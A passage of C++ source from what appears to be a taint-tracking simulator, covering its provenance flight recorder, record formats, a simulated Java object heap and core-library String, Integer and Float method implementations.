      case ProvCause::InjectedInsertFail:  return "injected-insert-fail";
      case ProvCause::InjectedForcedEvict:
        return "injected-forced-evict";
      case ProvCause::InjectedCmdError:    return "injected-cmd-error";
      case ProvCause::FrontEndLoss:        return "front-end-loss";
      case ProvCause::StateLossDeclared:   return "state-loss-declared";
      case ProvCause::StorageSaturated:    return "storage-saturated";
      case ProvCause::RingEvicted:         return "ring-evicted";
      case ProvCause::Unknown:             return "unknown";
    }
    return "?";
}

} // namespace pift::provenance
