/**
 * @file
 * The provenance record format (DESIGN.md §13).
 *
 * Every causal taint decision the stack makes — a source registration,
 * a tainting-window transition, a taint write/merge/untaint, a storage
 * spill or loss, a fault injection, a command-port degradation, a sink
 * check — is captured as one fixed-size ProvRecord in a per-PID
 * bounded ring (provenance/recorder.hh). Records carry the tracker's
 * records_seen cursor (`seq`, the same stamp the mutation journal
 * uses) plus a global emission index (`index`) that totally orders
 * records across the per-PID and global rings, and a cause tag saying
 * *why* the event happened (window budget exhausted vs window closed,
 * LRU drop vs injected insert failure, ...).
 *
 * The record set is designed so provenance::explain can reconstruct a
 * full source→sink chain from the ring alone: taint writes name the
 * governing window, window openings are emitted with the load range
 * (whose origin the explainer resolves against its replayed interval
 * map), and sink checks are themselves records.
 */

#ifndef PIFT_PROVENANCE_RECORD_HH
#define PIFT_PROVENANCE_RECORD_HH

#include <cstdint>

#include "support/types.hh"

namespace pift::provenance
{

/** What happened. */
enum class ProvKind : uint8_t
{
    SourceRead,    //!< source registration tainted [start,end]; id=src
    WindowOpen,    //!< tainted load opened a fresh tainting window
    WindowRenew,   //!< tainted load hit while a window was open
    WindowExpire,  //!< window lazily retired (NI exceeded)
    TaintWrite,    //!< in-window store tainted new bytes
    TaintMerge,    //!< in-window store re-covered tainted bytes
    Untaint,       //!< store outside every window removed taint
    Spill,         //!< storage moved a range to secondary (exact)
    StorageLoss,   //!< storage lost a range (cause says how)
    StreamLoss,    //!< front-end lost events for this process
    StateLoss,     //!< whole-state loss declared (recovery)
    FaultInjected, //!< fault injector fired (cause names the class)
    CmdRetry,      //!< command-port transient; command re-issued
    CmdDegraded,   //!< command port never latched; MaybeTainted
    SinkCheck,     //!< sink query; verdict field holds the tri-state
    ClearAll,      //!< all taint state dropped
    SnapshotEpoch, //!< durable snapshot published; id = epoch
    WalEpoch       //!< WAL rotated to a new epoch; id = epoch
};

/** Why it happened (the cause tag). */
enum class ProvCause : uint8_t
{
    None,
    TaintHit,            //!< plain data flow through a window
    WindowClosed,        //!< the store fell outside every window
    BudgetExhausted,     //!< NT propagations already used
    LruDropEviction,     //!< LruDrop victim lost its range
    DropNewRefusal,      //!< DropNew refused the insertion
    SplitAllocFail,      //!< remove-split found no free entry
    SpillEviction,       //!< LruSpill moved the range (no loss)
    InjectedDrop,        //!< faults: event-stream record dropped
    InjectedInsertFail,  //!< faults: storage insert refused
    InjectedForcedEvict, //!< faults: held range forcibly removed
    InjectedCmdError,    //!< faults: command-port transient
    FrontEndLoss,        //!< tracker notified of upstream loss
    StateLossDeclared,   //!< tracker notified of whole-state loss
    StorageSaturated,    //!< sink degraded: backend saturated(pid)
    RingEvicted,         //!< ring overwrote the evidence (bounded)
    Unknown
};

/**
 * One flight-recorder record. Fixed-size POD so a ring slot is one
 * cache-line-ish write; ranges are inclusive [start, end] like
 * taint::AddrRange.
 */
struct ProvRecord
{
    uint64_t index = 0;  //!< global emission index (total order)
    SeqNum seq = 0;      //!< records_seen cursor at emission
    SeqNum ltlt = 0;     //!< window anchor (window/store records)
    ProcId pid = 0;
    Addr start = 0;
    Addr end = 0;
    uint32_t id = 0;     //!< source/sink id, epoch, or fault detail
    uint32_t used = 0;   //!< window budget consumed so far
    ProvKind kind = ProvKind::SourceRead;
    ProvCause cause = ProvCause::None;
    uint8_t verdict = 0; //!< raw core::SinkVerdict (SinkCheck only)
};

/** Stable lowercase-dashed name of @p kind (exporters, tables). */
const char *kindName(ProvKind kind);

/** Stable lowercase-dashed name of @p cause. */
const char *causeName(ProvCause cause);

/** True for the record kinds that announce possible taint loss. */
inline bool
isDegradation(ProvKind kind, ProvCause cause)
{
    switch (kind) {
      case ProvKind::StorageLoss:
      case ProvKind::StreamLoss:
      case ProvKind::StateLoss:
      case ProvKind::CmdDegraded:
        return true;
      case ProvKind::FaultInjected:
        // Loss-class injections only; integrity faults (dup, reorder,
        // corrupt) do not remove taint and never force MaybeTainted.
        return cause == ProvCause::InjectedDrop ||
            cause == ProvCause::InjectedInsertFail ||
            cause == ProvCause::InjectedForcedEvict ||
            cause == ProvCause::InjectedCmdError;
      default:
        return false;
    }
}

} // namespace pift::provenance

#endif // PIFT_PROVENANCE_RECORD_HH
