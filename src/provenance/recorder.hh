/**
 * @file
 * The provenance flight recorder (DESIGN.md §13).
 *
 * A Recorder owns one bounded ring of ProvRecords per tracked process
 * plus one global ring for process-less events (ClearAll, state loss,
 * snapshot/WAL epochs). Emit sites (core::PiftTracker,
 * core::TaintStorage, the fault interposers, android::PiftModule,
 * persist::DurableSession) hold a `Recorder *` and emit through the
 * PIFT_PROV() macro below; the tracker advances the shared
 * records_seen cursor so every record is stamped exactly like a
 * journal record.
 *
 * Ring semantics: each ring holds the newest `ring_capacity` records
 * for its process; older records are overwritten (counted in
 * evictedFor()). Storage grows lazily to the capacity, so an
 * unattached or lightly-taxed recorder costs almost nothing.
 *
 * Compile-out mirrors src/telemetry/: building with
 * `-DPIFT_PROVENANCE=OFF` swaps this header's real classes for inline
 * no-op stubs with the same API, the `Recorder *` members in the
 * hot-path structs disappear (they are guarded by
 * PIFT_PROVENANCE_ENABLED), and PIFT_PROV() expands to nothing — zero
 * bytes and zero branches on the hot paths.
 */

#ifndef PIFT_PROVENANCE_RECORDER_HH
#define PIFT_PROVENANCE_RECORDER_HH

#include <cstddef>
#include <cstdint>
#include <vector>

#include "provenance/record.hh"
#include "support/types.hh"

#if defined(PIFT_PROVENANCE_ENABLED)
#include <algorithm>
#include <map>
#endif

/**
 * Emit through a possibly-null `Recorder *` without costing anything
 * when the subsystem is compiled out: the arguments are not even
 * evaluated, so guarded members may not exist in OFF builds.
 */
#if defined(PIFT_PROVENANCE_ENABLED)
#define PIFT_PROV(rec, call)                                          \
    do {                                                              \
        if (rec)                                                      \
            (rec)->call;                                              \
    } while (0)
#else
#define PIFT_PROV(rec, call)                                          \
    do {                                                              \
    } while (0)
#endif

namespace pift::provenance
{

/** Recorder tuning. */
struct RecorderParams
{
    /** Newest records kept per process (and in the global ring). */
    size_t ring_capacity = 16384;
};

#if defined(PIFT_PROVENANCE_ENABLED)

/** True when the subsystem is compiled in (PIFT_PROVENANCE=ON). */
inline constexpr bool
compiledIn()
{
    return true;
}

/** Per-PID bounded flight recorder of causal taint records. */
class Recorder
{
  public:
    explicit Recorder(const RecorderParams &params = {})
        : cap(params.ring_capacity ? params.ring_capacity : 1)
    {}

    /**
     * Advance the records_seen cursor; the tracker calls this as it
     * consumes events so records from every emit site (including the
     * storage underneath) carry the journal-compatible stamp.
     */
    void setCursor(SeqNum records_seen) { cur = records_seen; }
    SeqNum cursor() const { return cur; }

    /** Emit one record stamped with the current cursor. */
    void
    record(ProvKind kind, ProvCause cause, ProcId pid, Addr start = 0,
           Addr end = 0, uint32_t id = 0, SeqNum ltlt = 0,
           uint32_t used = 0, uint8_t verdict = 0)
    {
        recordAt(cur, kind, cause, pid, start, end, id, ltlt, used,
                 verdict);
    }

    /** Emit one record with an explicit seq stamp (live emit sites). */
    void
    recordAt(SeqNum seq, ProvKind kind, ProvCause cause, ProcId pid,
             Addr start = 0, Addr end = 0, uint32_t id = 0,
             SeqNum ltlt = 0, uint32_t used = 0, uint8_t verdict = 0)
    {
        ProvRecord r;
        r.index = next_index++;
        r.seq = seq;
        r.ltlt = ltlt;
        r.pid = pid;
        r.start = start;
        r.end = end;
        r.id = id;
        r.used = used;
        r.kind = kind;
        r.cause = cause;
        r.verdict = verdict;
        ++total_;
        rings[pid].push(r, cap);
    }

    /** Emit a process-less record into the global ring. */
    void
    recordGlobal(ProvKind kind, ProvCause cause, uint32_t id = 0)
    {
        ProvRecord r;
        r.index = next_index++;
        r.seq = cur;
        r.id = id;
        r.kind = kind;
        r.cause = cause;
        ++total_;
        global.push(r, cap);
    }

    /** Tracked process ids, ascending. */
    std::vector<ProcId>
    pids() const
    {
        std::vector<ProcId> out;
        out.reserve(rings.size());
        for (const auto &[pid, ring] : rings)
            out.push_back(pid);
        return out;
    }

    /**
     * All surviving records relevant to @p pid — its own ring merged
     * with the global ring — oldest first (ascending index).
     */
    std::vector<ProvRecord>
    recordsFor(ProcId pid) const
    {
        std::vector<ProvRecord> out;
        auto it = rings.find(pid);
        if (it != rings.end())
            it->second.collect(out);
        global.collect(out);
        std::sort(out.begin(), out.end(),
                  [](const ProvRecord &a, const ProvRecord &b) {
                      return a.index < b.index;
                  });
        return out;
    }

    /** Surviving global-ring records, oldest first. */
    std::vector<ProvRecord>
    globalRecords() const
    {
        std::vector<ProvRecord> out;
        global.collect(out);
        return out;
    }

    /** Records emitted across every ring since construction. */
    uint64_t totalRecorded() const { return total_; }

    /** Records overwritten by ring wrap-around, all rings. */
    uint64_t
    totalEvicted() const
    {
        uint64_t n = global.evicted(cap);
        for (const auto &[pid, ring] : rings)
            n += ring.evicted(cap);
        return n;
    }

    /** Records overwritten in @p pid's ring (plus the global ring). */
    uint64_t
    evictedFor(ProcId pid) const
    {
        uint64_t n = global.evicted(cap);
        auto it = rings.find(pid);
        if (it != rings.end())
            n += it->second.evicted(cap);
        return n;
    }

    size_t ringCapacity() const { return cap; }

    /** Drop every record (rings stay allocated). */
    void
    clear()
    {
        rings.clear();
        global = Ring{};
        total_ = 0;
        next_index = 0;
    }

  private:
    /**
     * Lazily-grown ring: plain append until the capacity is reached,
     * then overwrite oldest-first. `head` is the next write slot once
     * wrapped; `pushed` counts lifetime pushes (evictions follow).
     */
    struct Ring
    {
        std::vector<ProvRecord> buf;
        size_t head = 0;
        uint64_t pushed = 0;

        void
        push(const ProvRecord &r, size_t cap)
        {
            ++pushed;
            if (buf.size() < cap) {
                buf.push_back(r);
                return;
            }
            buf[head] = r;
            head = (head + 1) % cap;
        }

        uint64_t
        evicted(size_t cap) const
        {
            return pushed > cap ? pushed - cap : 0;
        }

        /** Append the survivors oldest-first to @p out. */
        void
        collect(std::vector<ProvRecord> &out) const
        {
            out.reserve(out.size() + buf.size());
            for (size_t i = 0; i < buf.size(); ++i)
                out.push_back(buf[(head + i) % buf.size()]);
        }
    };

    size_t cap;
    SeqNum cur = 0;
    uint64_t next_index = 0;
    uint64_t total_ = 0;
    // std::map keeps pids() deterministic for free.
    std::map<ProcId, Ring> rings;
    Ring global;
};

#else // !PIFT_PROVENANCE_ENABLED — inline no-op stubs, same API.

inline constexpr bool
compiledIn()
{
    return false;
}

class Recorder
{
  public:
    explicit Recorder(const RecorderParams & = {}) {}

    void setCursor(SeqNum) {}
    SeqNum cursor() const { return 0; }

    void record(ProvKind, ProvCause, ProcId, Addr = 0, Addr = 0,
                uint32_t = 0, SeqNum = 0, uint32_t = 0, uint8_t = 0)
    {}
    void recordAt(SeqNum, ProvKind, ProvCause, ProcId, Addr = 0,
                  Addr = 0, uint32_t = 0, SeqNum = 0, uint32_t = 0,
                  uint8_t = 0)
    {}
    void recordGlobal(ProvKind, ProvCause, uint32_t = 0) {}

    std::vector<ProcId> pids() const { return {}; }
    std::vector<ProvRecord> recordsFor(ProcId) const { return {}; }
    std::vector<ProvRecord> globalRecords() const { return {}; }

    uint64_t totalRecorded() const { return 0; }
    uint64_t totalEvicted() const { return 0; }
    uint64_t evictedFor(ProcId) const { return 0; }
    size_t ringCapacity() const { return 0; }
    void clear() {}
};

#endif // PIFT_PROVENANCE_ENABLED

} // namespace pift::provenance

#endif // PIFT_PROVENANCE_RECORDER_HH
