#include "runtime/heap.hh"

#include "support/logging.hh"
#include "telemetry/registry.hh"

namespace pift::runtime
{

namespace
{

/** Heap allocator instruments. */
struct HeapTel
{
    telemetry::Counter &objects =
        telemetry::counter("runtime.heap.objects");
    telemetry::Counter &arrays =
        telemetry::counter("runtime.heap.arrays");
    telemetry::Counter &strings =
        telemetry::counter("runtime.heap.strings");
    telemetry::Gauge &bytes =
        telemetry::gauge("runtime.heap.bytes");
};

HeapTel &
htel()
{
    static HeapTel t;
    return t;
}

} // anonymous namespace

Heap::Heap(mem::Memory &memory)
    : mem_ref(memory), alloc(mem::heap_base, mem::heap_limit)
{}

Ref
Heap::allocObject(uint32_t cls, uint32_t nfields)
{
    Ref ref = alloc.alloc(object_header_bytes + 4 * nfields);
    htel().objects.inc();
    htel().bytes.add(object_header_bytes + 4 * nfields);
    mem_ref.write32(ref, cls);
    mem_ref.write32(ref + 4, nfields);
    for (uint32_t i = 0; i < nfields; ++i)
        mem_ref.write32(fieldAddr(ref, i), 0);
    return ref;
}

Ref
Heap::allocArray(uint32_t cls, uint32_t length, uint32_t elem_bytes)
{
    pift_assert(elem_bytes > 0, "array class without element size");
    Ref ref = alloc.alloc(object_header_bytes + elem_bytes * length);
    htel().arrays.inc();
    htel().bytes.add(object_header_bytes + elem_bytes * length);
    mem_ref.write32(ref, cls);
    mem_ref.write32(ref + 4, length);
    for (uint32_t i = 0; i < elem_bytes * length; ++i)
        mem_ref.write8(dataAddr(ref) + i, 0);
    return ref;
}

Ref
Heap::allocString(uint32_t string_cls, const std::string &value)
{
    Ref ref = allocStringRaw(string_cls,
                             static_cast<uint32_t>(value.size()));
    mem_ref.writeString16(dataAddr(ref), value);
    return ref;
}

Ref
Heap::allocStringRaw(uint32_t string_cls, uint32_t length)
{
    Ref ref = alloc.alloc(object_header_bytes + 2 * length);
    htel().strings.inc();
    htel().bytes.add(object_header_bytes + 2 * length);
    mem_ref.write32(ref, string_cls);
    mem_ref.write32(ref + 4, length);
    return ref;
}

std::string
Heap::readString(Ref ref) const
{
    return mem_ref.readString16(dataAddr(ref), length(ref));
}

} // namespace pift::runtime
