/**
 * @file
 * The Java-ish object heap on simulated memory.
 *
 * Object layout (all little-endian 32-bit words):
 *   [ref + 0]  class id
 *   [ref + 4]  length (arrays/strings) or field count (objects)
 *   [ref + 8]  payload: fields (4 bytes each), array elements, or
 *              string characters (2 bytes each, Java char layout —
 *              the paper's footnote 1: "in Java, each character
 *              consumes two bytes")
 *
 * The heap performs host-side writes only for object construction
 * (allocation, interning constants); all *program* data movement goes
 * through the simulated CPU so the PIFT front-end observes it.
 */

#ifndef PIFT_RUNTIME_HEAP_HH
#define PIFT_RUNTIME_HEAP_HH

#include <string>

#include "mem/layout.hh"
#include "mem/memory.hh"
#include "support/types.hh"
#include "taint/addr_range.hh"

namespace pift::runtime
{

/** A heap reference: the object's base address (0 = null). */
using Ref = Addr;

/** Byte offset of the payload from an object base. */
inline constexpr Addr object_header_bytes = 8;

/** Allocator + accessors for the simulated heap. */
class Heap
{
  public:
    explicit Heap(mem::Memory &memory);

    /**
     * Allocate an object with @p nfields 4-byte fields, zeroed.
     * @param cls class id to stamp into the header
     */
    Ref allocObject(uint32_t cls, uint32_t nfields);

    /**
     * Allocate an array of @p length elements of @p elem_bytes each.
     */
    Ref allocArray(uint32_t cls, uint32_t length, uint32_t elem_bytes);

    /**
     * Allocate a String and host-write its characters (used for
     * constants and for source values before they are registered
     * with PIFT).
     */
    Ref allocString(uint32_t string_cls, const std::string &value);

    /** Allocate an uninitialized string of @p length chars. */
    Ref allocStringRaw(uint32_t string_cls, uint32_t length);

    uint32_t classOf(Ref ref) const { return mem_ref.read32(ref); }
    uint32_t length(Ref ref) const { return mem_ref.read32(ref + 4); }

    /** Host-write the length word (string builders grow). */
    void setLength(Ref ref, uint32_t len) { mem_ref.write32(ref + 4, len); }

    /** Address of the payload. */
    Addr dataAddr(Ref ref) const { return ref + object_header_bytes; }

    /** Address of 4-byte field @p idx. */
    Addr
    fieldAddr(Ref ref, uint32_t idx) const
    {
        return ref + object_header_bytes + 4 * idx;
    }

    /** Address of character @p idx of a string/char array. */
    Addr
    charAddr(Ref ref, uint32_t idx) const
    {
        return ref + object_header_bytes + 2 * idx;
    }

    /** Byte range occupied by a string's characters. */
    taint::AddrRange
    charRange(Ref ref) const
    {
        uint32_t len = length(ref);
        if (len == 0)
            return taint::AddrRange();
        return taint::AddrRange::fromSize(dataAddr(ref), 2 * len);
    }

    /** Read a string's characters back as ASCII (host side). */
    std::string readString(Ref ref) const;

    /** Bytes allocated so far. */
    Addr used() const { return alloc.used(); }

    mem::Memory &memory() { return mem_ref; }

  private:
    mem::Memory &mem_ref;
    mem::BumpAllocator alloc;
};

} // namespace pift::runtime

#endif // PIFT_RUNTIME_HEAP_HH
