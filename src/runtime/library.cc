#include "runtime/library.hh"

#include <algorithm>
#include <cstring>

#include "support/logging.hh"

namespace pift::runtime
{

using dalvik::Bc;
using dalvik::Dex;
using dalvik::MethodBuilder;
using dalvik::MethodOrigin;
using dalvik::NativeCall;
using dalvik::Vm;

namespace
{

float
asFloat(uint32_t bits)
{
    float f;
    std::memcpy(&f, &bits, sizeof(f));
    return f;
}

/** Format a float the way Float.toString would (short form). */
std::string
floatText(float f)
{
    char buf[48];
    std::snprintf(buf, sizeof(buf), "%.4f", static_cast<double>(f));
    return buf;
}

} // anonymous namespace

Addr
JavaLib::digitBuffer(Vm &vm)
{
    if (digits == 0)
        digits = vm.allocScratch(256);
    return digits;
}

Ref
JavaLib::makeStringBuilder(Vm &vm, uint32_t capacity)
{
    Heap &heap = vm.heap();
    Ref sb = heap.allocObject(string_builder_cls, 2);
    Ref buf = heap.allocArray(vm.dex().charArrayClass(), capacity, 2);
    vm.memory().write32(heap.fieldAddr(sb, 0), buf);
    vm.memory().write32(heap.fieldAddr(sb, 1), 0);
    return sb;
}

void
JavaLib::appendChars(Vm &vm, Ref sb, Addr src_chars, uint32_t count)
{
    if (count == 0)
        return;
    Heap &heap = vm.heap();
    mem::Memory &memory = vm.memory();
    Ref buf = memory.read32(heap.fieldAddr(sb, 0));
    uint32_t used = memory.read32(heap.fieldAddr(sb, 1));
    uint32_t cap = heap.length(buf);
    if (used + count > cap) {
        uint32_t newcap = std::max(2 * cap, used + count);
        Ref grown = heap.allocArray(vm.dex().charArrayClass(), newcap,
                                    2);
        // The growth copy is real work the device would do; trace it.
        vm.runStringCopy(heap.dataAddr(grown), heap.dataAddr(buf),
                         used);
        memory.write32(heap.fieldAddr(sb, 0), grown);
        buf = grown;
    }
    vm.runStringCopy(heap.charAddr(buf, used), src_chars, count);
    memory.write32(heap.fieldAddr(sb, 1), used + count);
}

void
JavaLib::install(Dex &dex)
{
    string_builder_cls = dex.addClass(
        {"java/lang/StringBuilder", 2, 0, {}});
    exception_cls = dex.addClass({"java/lang/Exception", 1, 0, {}});

    // ---- Native methods -------------------------------------------

    string_concat = dex.addNative(
        "String.concat", 2,
        [](Vm &vm, const NativeCall &call) {
            Heap &heap = vm.heap();
            Ref a = vm.memory().read32(call.arg_addr(0));
            Ref b = vm.memory().read32(call.arg_addr(1));
            uint32_t la = heap.length(a);
            uint32_t lb = heap.length(b);
            Ref s = heap.allocStringRaw(vm.dex().stringClass(),
                                        la + lb);
            vm.runStringCopy(heap.dataAddr(s), heap.dataAddr(a), la);
            vm.runStringCopy(heap.dataAddr(s) + 2 * la,
                             heap.dataAddr(b), lb);
            vm.setRetval(s);
        });

    string_substring = dex.addNative(
        "String.substring", 3,
        [](Vm &vm, const NativeCall &call) {
            Heap &heap = vm.heap();
            Ref s = vm.memory().read32(call.arg_addr(0));
            uint32_t begin = vm.memory().read32(call.arg_addr(1));
            uint32_t end = vm.memory().read32(call.arg_addr(2));
            pift_assert(begin <= end && end <= heap.length(s),
                        "substring range out of bounds");
            Ref out = heap.allocStringRaw(vm.dex().stringClass(),
                                          end - begin);
            vm.runStringCopy(heap.dataAddr(out),
                             heap.charAddr(s, begin), end - begin);
            vm.setRetval(out);
        });

    string_value_of_char = dex.addNative(
        "String.valueOf(C)", 1,
        [](Vm &vm, const NativeCall &call) {
            Heap &heap = vm.heap();
            uint16_t ch = vm.memory().read32(call.arg_addr(0)) & 0xffff;
            Ref out = heap.allocStringRaw(vm.dex().stringClass(), 1);
            vm.runCharFromWordShort(call.arg_addr(0),
                                    heap.charAddr(out, 0));
            vm.memory().write16(heap.charAddr(out, 0), ch);
            vm.setRetval(out);
        });

    string_to_char_array = dex.addNative(
        "String.toCharArray", 1,
        [](Vm &vm, const NativeCall &call) {
            Heap &heap = vm.heap();
            Ref s = vm.memory().read32(call.arg_addr(0));
            uint32_t len = heap.length(s);
            Ref arr = heap.allocArray(vm.dex().charArrayClass(), len,
                                      2);
            vm.runStringCopy(heap.dataAddr(arr), heap.dataAddr(s),
                             len);
            vm.setRetval(arr);
        });

    string_from_char_array = dex.addNative(
        "String.fromCharArray", 1,
        [](Vm &vm, const NativeCall &call) {
            Heap &heap = vm.heap();
            Ref arr = vm.memory().read32(call.arg_addr(0));
            uint32_t len = heap.length(arr);
            Ref s = heap.allocStringRaw(vm.dex().stringClass(), len);
            vm.runStringCopy(heap.dataAddr(s), heap.dataAddr(arr),
                             len);
            vm.setRetval(s);
        });

    sb_init = dex.addNative(
        "StringBuilder.<init>", 0,
        [this](Vm &vm, const NativeCall &) {
            vm.setRetval(makeStringBuilder(vm));
        });

    sb_append = dex.addNative(
        "StringBuilder.append", 2,
        [this](Vm &vm, const NativeCall &call) {
            Heap &heap = vm.heap();
            Ref sb = vm.memory().read32(call.arg_addr(0));
            Ref s = vm.memory().read32(call.arg_addr(1));
            appendChars(vm, sb, heap.dataAddr(s), heap.length(s));
            vm.setRetval(sb);
        });

    sb_to_string = dex.addNative(
        "StringBuilder.toString", 1,
        [](Vm &vm, const NativeCall &call) {
            Heap &heap = vm.heap();
            Ref sb = vm.memory().read32(call.arg_addr(0));
            Ref buf = vm.memory().read32(heap.fieldAddr(sb, 0));
            uint32_t used = vm.memory().read32(heap.fieldAddr(sb, 1));
            Ref s = heap.allocStringRaw(vm.dex().stringClass(), used);
            vm.runStringCopy(heap.dataAddr(s), heap.dataAddr(buf),
                             used);
            vm.setRetval(s);
        });

    int_to_string = dex.addNative(
        "Integer.toString", 1,
        [this](Vm &vm, const NativeCall &call) {
            Heap &heap = vm.heap();
            auto v = static_cast<int32_t>(
                vm.memory().read32(call.arg_addr(0)));
            std::string text = std::to_string(v);
            Ref s = heap.allocStringRaw(
                vm.dex().stringClass(),
                static_cast<uint32_t>(text.size()));
            // Traced, derived store of the first character (distance
            // 3); the host fixes the digit value afterwards.
            vm.runCharFromWordShort(call.arg_addr(0),
                                    heap.charAddr(s, 0));
            vm.memory().write16(heap.charAddr(s, 0),
                                static_cast<uint8_t>(text[0]));
            if (text.size() > 1) {
                Addr buf = digitBuffer(vm);
                vm.memory().writeString16(buf, text.substr(1));
                vm.runStringCopy(heap.charAddr(s, 1), buf,
                                 static_cast<uint32_t>(
                                     text.size() - 1));
            }
            vm.setRetval(s);
        });

    int_parse = dex.addNative(
        "Integer.parseInt", 1,
        [](Vm &vm, const NativeCall &call) {
            Heap &heap = vm.heap();
            Ref s = vm.memory().read32(call.arg_addr(0));
            std::string text = heap.readString(s);
            int32_t value = 0;
            try {
                value = std::stoi(text);
            } catch (...) {
                value = 0;
            }
            // Traced flow: the result derives from the string bytes.
            vm.setRetvalDerived(heap.dataAddr(s),
                                static_cast<uint32_t>(value));
        });

    float_to_string = dex.addNative(
        "Float.toString", 1,
        [this](Vm &vm, const NativeCall &call) {
            Heap &heap = vm.heap();
            float f = asFloat(vm.memory().read32(call.arg_addr(0)));
            std::string text = floatText(f);
            Ref s = heap.allocStringRaw(
                vm.dex().stringClass(),
                static_cast<uint32_t>(text.size()));
            // The float-to-decimal data step: load-store distance 10
            // (the Figure 11 GPS-leak threshold).
            vm.runCharFromWord(call.arg_addr(0), heap.charAddr(s, 0));
            vm.memory().write16(heap.charAddr(s, 0),
                                static_cast<uint8_t>(text[0]));
            if (text.size() > 1) {
                Addr buf = digitBuffer(vm);
                vm.memory().writeString16(buf, text.substr(1));
                vm.runStringCopy(heap.charAddr(s, 1), buf,
                                 static_cast<uint32_t>(
                                     text.size() - 1));
            }
            vm.setRetval(s);
        });

    array_copy = dex.addNative(
        "System.arraycopy", 5,
        [](Vm &vm, const NativeCall &call) {
            Heap &heap = vm.heap();
            Ref src = vm.memory().read32(call.arg_addr(0));
            uint32_t src_pos = vm.memory().read32(call.arg_addr(1));
            Ref dst = vm.memory().read32(call.arg_addr(2));
            uint32_t dst_pos = vm.memory().read32(call.arg_addr(3));
            uint32_t len = vm.memory().read32(call.arg_addr(4));
            vm.runStringCopy(heap.charAddr(dst, dst_pos),
                             heap.charAddr(src, src_pos), len);
            vm.setRetval(0);
        });

    // ---- Bytecode methods (system-library corpus) -----------------

    {
        MethodBuilder b("String.charAt", 4, 2);
        b.origin(MethodOrigin::SystemLib)
            .agetChar(0, 2, 3)
            .returnValue(0);
        string_char_at = dex.addMethod(b.finish());
    }
    {
        MethodBuilder b("String.length", 3, 1);
        b.origin(MethodOrigin::SystemLib)
            .arrayLength(0, 2)
            .returnValue(0);
        string_length = dex.addMethod(b.finish());
    }
    {
        MethodBuilder b("String.isEmpty", 3, 1);
        b.origin(MethodOrigin::SystemLib)
            .arrayLength(0, 2)
            .ifEqz(0, "empty")
            .const4(0, 0)
            .returnValue(0)
            .label("empty")
            .const4(0, 1)
            .returnValue(0);
        string_is_empty = dex.addMethod(b.finish());
    }
    {
        MethodBuilder b("String.equals", 8, 2);
        b.origin(MethodOrigin::SystemLib)
            .arrayLength(0, 6)
            .arrayLength(1, 7)
            .ifNe(0, 1, "ne")
            .const4(2, 0)
            .label("loop")
            .ifGe(2, 0, "eq")
            .agetChar(3, 6, 2)
            .agetChar(4, 7, 2)
            .ifNe(3, 4, "ne")
            .addIntLit8(2, 2, 1)
            .gotoLabel("loop")
            .label("eq")
            .const4(0, 1)
            .returnValue(0)
            .label("ne")
            .const4(0, 0)
            .returnValue(0);
        string_equals = dex.addMethod(b.finish());
    }
    {
        MethodBuilder b("String.indexOf", 8, 2);
        b.origin(MethodOrigin::SystemLib)
            .arrayLength(0, 6)
            .const4(1, 0)
            .label("loop")
            .ifGe(1, 0, "notfound")
            .agetChar(2, 6, 1)
            .ifEq(2, 7, "found")
            .addIntLit8(1, 1, 1)
            .gotoLabel("loop")
            .label("found")
            .returnValue(1)
            .label("notfound")
            .const4(1, -1)
            .returnValue(1);
        string_index_of = dex.addMethod(b.finish());
    }
    {
        MethodBuilder b("String.hashCode", 8, 1);
        b.origin(MethodOrigin::SystemLib)
            .arrayLength(0, 7)
            .const4(1, 0)
            .const4(2, 0)
            .label("loop")
            .ifGe(2, 0, "done")
            .mulIntLit8(1, 1, 31)
            .agetChar(3, 7, 2)
            .binop2addr(Bc::AddInt2Addr, 1, 3)
            .addIntLit8(2, 2, 1)
            .gotoLabel("loop")
            .label("done")
            .returnValue(1);
        string_hash_code = dex.addMethod(b.finish());
    }
    {
        MethodBuilder b("StringBuilder.appendChar", 8, 2);
        b.origin(MethodOrigin::SystemLib)
            .igetObject(0, 6, sb_field_buf)
            .iget(1, 6, sb_field_count)
            .aputChar(7, 0, 1)
            .addIntLit8(1, 1, 1)
            .iput(1, 6, sb_field_count)
            .returnVoid();
        sb_append_char = dex.addMethod(b.finish());
    }
    {
        MethodBuilder b("Math.abs", 4, 1);
        b.origin(MethodOrigin::SystemLib)
            .ifLtz(3, "neg")
            .returnValue(3)
            .label("neg")
            .const4(0, 0)
            .binop(Bc::SubInt, 0, 0, 3)
            .returnValue(0);
        math_abs = dex.addMethod(b.finish());
    }
    {
        MethodBuilder b("Math.max", 4, 2);
        b.origin(MethodOrigin::SystemLib)
            .ifGe(2, 3, "a")
            .returnValue(3)
            .label("a")
            .returnValue(2);
        math_max = dex.addMethod(b.finish());
    }
    {
        MethodBuilder b("Math.min", 4, 2);
        b.origin(MethodOrigin::SystemLib)
            .ifLe(2, 3, "a")
            .returnValue(3)
            .label("a")
            .returnValue(2);
        math_min = dex.addMethod(b.finish());
    }
    {
        MethodBuilder b("Math.clamp", 6, 3);
        b.origin(MethodOrigin::SystemLib)
            .ifGe(3, 4, "c1")
            .returnValue(4)
            .label("c1")
            .ifLe(3, 5, "c2")
            .returnValue(5)
            .label("c2")
            .returnValue(3);
        math_clamp = dex.addMethod(b.finish());
    }
    {
        MethodBuilder b("Integer.bitCount", 6, 1);
        b.origin(MethodOrigin::SystemLib)
            .const4(0, 0)
            .const16(4, 0x7fff)
            .binop(Bc::AndInt, 1, 5, 4)
            .label("loop")
            .ifEqz(1, "done")
            .const4(2, 1)
            .binop(Bc::AndInt, 3, 1, 2)
            .binop2addr(Bc::AddInt2Addr, 0, 3)
            .binop(Bc::ShrInt, 1, 1, 2)
            .gotoLabel("loop")
            .label("done")
            .returnValue(0);
        int_bit_count = dex.addMethod(b.finish());
    }
}

} // namespace pift::runtime
