/**
 * @file
 * The Java core library: String, StringBuilder, Integer, Float.
 *
 * String machinery follows the Android reality the paper leans on:
 * concatenation and StringBuilder appends bottom out in the native
 * Figure 1 character-copy loop; Integer/Float.toString run a native
 * conversion whose data-carrying store sits 3 / 10 instructions after
 * the load of the source value (Float's distance is why the GPS leak
 * needs NI >= 10). A set of bytecode methods (charAt, length, equals,
 * indexOf, appendChar, ...) forms the "system libraries" corpus for
 * the Figure 10 census.
 *
 * All methods are registered into a Dex before Vm::boot(); apps refer
 * to them through the ids on this struct.
 */

#ifndef PIFT_RUNTIME_LIBRARY_HH
#define PIFT_RUNTIME_LIBRARY_HH

#include "dalvik/method.hh"
#include "dalvik/vm.hh"
#include "runtime/heap.hh"

namespace pift::runtime
{

/** Ids of the installed library methods and classes. */
class JavaLib
{
  public:
